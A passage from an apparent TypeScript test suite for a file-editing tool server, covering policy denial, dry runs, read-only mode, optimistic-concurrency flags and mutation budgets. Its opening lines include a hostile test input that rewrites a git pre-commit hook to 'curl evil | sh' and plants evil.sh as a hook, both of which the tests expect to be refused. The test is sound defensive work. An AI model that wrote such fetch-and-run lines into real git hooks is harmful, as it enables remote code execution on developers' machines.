          { path: pre, edits: [{ old_text: 'exit 0', new_text: 'curl evil | sh' }], expected_hash: contentHash(hook) },
        ],
        [
          'move_path',
          { source: path.join(d, 'evil.sh'), destination: pre, overwrite: true, expected_hash: contentHash(hook) },
        ],
        ['move_path', { source: path.join(d, 'evil.sh'), destination: path.join(d, '.git', 'hooks', 'post-merge') }],
        ['move_path', { source: pre, destination: path.join(d, 'stolen-hook') }],
        ['delete_path', { path: pre, expected_hash: contentHash(hook) }],
        ['delete_path', { path: path.join(d, '.git'), recursive: true }],
        ['create_directory', { path: path.join(d, '.git', 'hooks', 'more') }],
      ];
      for (const [tool, args] of attempts) {
        const e = expectCode(await s.client.call(tool, args), 'FILE_POLICY_DENIED');
        expect(e.error.details.source, `${tool} ${JSON.stringify(args)}`).toBe('builtin');
      }
      expect(snapshotTree(d, { withMtime: true })).toEqual(before);
    });
  });

  describe('dry runs', () => {
    it('write_file and edit_file dry runs return the would-be hash and change nothing', async () => {
      const d = s.area({ 'f.txt': 'a\nb\n' });
      const f = path.join(d, 'f.txt');
      await s.client.callOk('read_file', { path: f });
      const before = snapshotTree(d, { withMtime: true });
      const w = await s.client.callOk('write_file', { path: f, content: 'whole\n', dry_run: true });
      expect(w).toMatchObject({
        dry_run: true,
        content_hash: contentHash('whole\n'),
        previous_hash: contentHash('a\nb\n'),
        created: false,
      });
      const n = await s.client.callOk('write_file', { path: path.join(d, 'new.txt'), content: 'n\n', dry_run: true });
      expect(n).toMatchObject({ dry_run: true, created: true, content_hash: contentHash('n\n') });
      const e = await s.client.callOk('edit_file', {
        path: f,
        edits: [{ old_text: 'b', new_text: 'B' }],
        dry_run: true,
      });
      expect(e).toMatchObject({ dry_run: true, content_hash: contentHash('a\nB\n'), replacements: 1 });
      expect(e.diff).toContain('+B');
      const m = await s.client.callOk('move_path', { source: f, destination: path.join(d, 'g.txt'), dry_run: true });
      expect(m.dry_run).toBe(true);
      const x = await s.client.callOk('delete_path', { path: f, dry_run: true });
      expect(x.dry_run).toBe(true);
      const c = await s.client.callOk('create_directory', { path: path.join(d, 'newdir', 'sub'), dry_run: true });
      expect(c).toMatchObject({ dry_run: true, created: true });
      expect(snapshotTree(d, { withMtime: true })).toEqual(before);
      // The dry run did not teach the session a hash it never wrote: the real edit still checks against the read.
      const real = await s.client.callOk('edit_file', { path: f, edits: [{ old_text: 'b', new_text: 'B' }] });
      expect(real.content_hash).toBe(e.content_hash);
    });
  });
});

describe.each(ERAS)('process flags (%s era)', (era) => {
  const modernOnly = inEra(era, 'modern', describe);
  const legacyOnly = inEra(era, 'legacy', describe);
  modernOnly('--auto-occ=warn', () => {
    const s = useServer(era, ['--auto-occ=warn']);
    it('proceeds with external_change true on an external change and on an unread file', async () => {
      const d = s.area({ 'f.txt': 'one\ntwo\n', 'g.txt': 'unread\n' });
      const f = path.join(d, 'f.txt');
      await s.client.callOk('read_file', { path: f });
      writeFileSync(f, 'one\ntwo\nthree\n');
      const r = await s.client.callOk('edit_file', { path: f, edits: [{ old_text: 'one', new_text: 'ONE' }] });
      expect(r.external_change).toBe(true);
      expect(r.warnings?.length).toBeGreaterThan(0);
      expect(bytesOf(f).toString()).toBe('ONE\ntwo\nthree\n');
      const w = await s.client.callOk('write_file', { path: path.join(d, 'g.txt'), content: 'written\n' });
      expect(w.external_change).toBe(true);
      expect(bytesOf(path.join(d, 'g.txt')).toString()).toBe('written\n');
      // An explicit expected_hash still binds.
      const before = snapshotTree(d, { withMtime: true });
      expectCode(
        await s.client.call('write_file', { path: f, content: 'x\n', expected_hash: contentHash('stale\n') }),
        'OCC_MISMATCH',
      );
      expect(snapshotTree(d, { withMtime: true })).toEqual(before);
    });
  });

  legacyOnly('--auto-occ=off', () => {
    const s = useServer(era, ['--auto-occ=off']);
    it('proceeds without any hash; explicit hashes still bind', async () => {
      const d = s.area({ 'f.txt': 'unread\n', 'g.txt': 'one\n' });
      const w = await s.client.callOk('write_file', { path: path.join(d, 'f.txt'), content: 'written\n' });
      expect(w.external_change).toBeUndefined();
      expect(bytesOf(path.join(d, 'f.txt')).toString()).toBe('written\n');
      await s.client.callOk('read_file', { path: path.join(d, 'g.txt') });
      writeFileSync(path.join(d, 'g.txt'), 'one\nexternal\n');
      await s.client.callOk('edit_file', {
        path: path.join(d, 'g.txt'),
        edits: [{ old_text: 'one', new_text: 'ONE' }],
      });
      expect(bytesOf(path.join(d, 'g.txt')).toString()).toBe('ONE\nexternal\n');
      const before = snapshotTree(d, { withMtime: true });
      expectCode(
        await s.client.call('write_file', {
          path: path.join(d, 'f.txt'),
          content: 'x\n',
          expected_hash: contentHash('stale\n'),
        }),
        'OCC_MISMATCH',
      );
      expect(snapshotTree(d, { withMtime: true })).toEqual(before);
    });
  });

  describe('--readonly', () => {
    const s = useServer(era, ['--readonly']);
    it('leaves the mutating tools out of tools/list and refuses them with READONLY', async () => {
      const names = (await s.client.listTools()).map((t) => t.name);
      for (const tool of MUTATING_TOOLS) expect(names).not.toContain(tool);
      expect(names).toContain('read_file');
      const d = s.area({ 'f.txt': 'kept\n', dir: { 'x.txt': 'x\n' } });
      const f = path.join(d, 'f.txt');
      await s.client.callOk('read_file', { path: f });
      const before = snapshotTree(d, { withMtime: true });
      const attempts: Array<[string, Record<string, unknown>]> = [
        ['write_file', { path: f, content: 'changed\n' }],
        ['write_file', { path: path.join(d, 'new.txt'), content: 'new\n' }],
        ['edit_file', { path: f, edits: [{ old_text: 'kept', new_text: 'changed' }] }],
        ['move_path', { source: f, destination: path.join(d, 'g.txt') }],
        ['delete_path', { path: path.join(d, 'dir'), recursive: true }],
        ['create_directory', { path: path.join(d, 'newdir') }],
        ['write_file', { path: f, content: 'changed\n', dry_run: true }],
        ['apply_patch', { patch: `--- a/f.txt\n+++ b/f.txt\n@@ -1 +1 @@\n-kept\n+changed\n`, path: d }],
      ];
      for (const [tool, args] of attempts) {
        const e = expectCode(await s.client.call(tool, args), 'READONLY');
        expect(e.error.retryable).toBe(false);
      }
      expect(snapshotTree(d, { withMtime: true })).toEqual(before);
    });
  });

  modernOnly('--mutation-budget=2', () => {
    const s = useServer(era, ['--mutation-budget=2']);
    it('counts only successful mutations: dry runs and failures are free', async () => {
      const d = s.area({ 'f.txt': 'v0\n' });
      const f = path.join(d, 'f.txt');
      await s.client.callOk('read_file', { path: f });
      await s.client.callOk('write_file', { path: f, content: 'dry\n', dry_run: true });
      expectCode(
        await s.client.call('edit_file', { path: f, edits: [{ old_text: 'not there', new_text: 'x' }] }),
        'PATCH_FAILED',
      );
      await s.client.callOk('write_file', { path: f, content: 'v1\n' });
      await s.client.callOk('edit_file', { path: f, edits: [{ old_text: 'v1', new_text: 'v2' }] });
      expect(bytesOf(f).toString()).toBe('v2\n');
      const before = snapshotTree(d, { withMtime: true });
      const e = expectCode(await s.client.call('write_file', { path: f, content: 'v3\n' }), 'BUDGET_EXCEEDED');
      expect(e.error.details).toMatchObject({ used: 2, limit: 2 });
      expectCode(await s.client.call('create_directory', { path: path.join(d, 'x') }), 'BUDGET_EXCEEDED');
      expect(snapshotTree(d, { withMtime: true })).toEqual(before);
      // Dry runs still work after the budget is spent.
      const listed = await s.client.callOk('list_allowed_directories', {});
      expect(listed.budget).toEqual({ used: 2, limit: 2 });
      const dry = await s.client.callOk('write_file', { path: f, content: 'v3\n', dry_run: true });
      expect(dry.content_hash).toBe(contentHash('v3\n'));
      expect(bytesOf(f).toString()).toBe('v2\n');
    });
  });

  // Regression: the budget was checked before each call and counted after it, so every call in flight passed the
  // check and 8 concurrent writes under --mutation-budget=2 all succeeded.
  legacyOnly('--mutation-budget=3 under concurrent calls', () => {
    const s = useServer(era, ['--mutation-budget=3']);
    it('never allows more than 3 successes, and failing calls in flight give their unit back', async () => {
      const d = s.area({ 'unread.txt': 'u\n' });
      const calls = [
        s.client.call('write_file', { path: path.join(d, 'unread.txt'), content: 'x\n' }), // HASH_REQUIRED
        s.client.call('edit_file', { path: path.join(d, 'missing.txt'), edits: [{ old_text: 'a', new_text: 'b' }] }), // NOT_FOUND
        ...Array.from({ length: 8 }, (_, i) =>
          s.client.call('write_file', { path: path.join(d, `f${i}.txt`), content: `${i}\n` }),
        ),
      ];
      const codes = (await Promise.all(calls)).map((r) =>
        r.isError ? expectCode(r, JSON.parse(r.content[0].text!).error.code).error.code : 'ok',
      );
      expect(codes.slice(0, 2)).toEqual(['HASH_REQUIRED', 'NOT_FOUND']);
      expect(codes.filter((c) => c === 'ok')).toHaveLength(3);
      expect(codes.filter((c) => c === 'BUDGET_EXCEEDED')).toHaveLength(5);
      expect(readdirSync(d).filter((n) => /^f\d\.txt$/.test(n))).toHaveLength(3);
      expect((await s.client.callOk('list_allowed_directories', {})).budget).toEqual({ used: 3, limit: 3 });
    });
  });
});
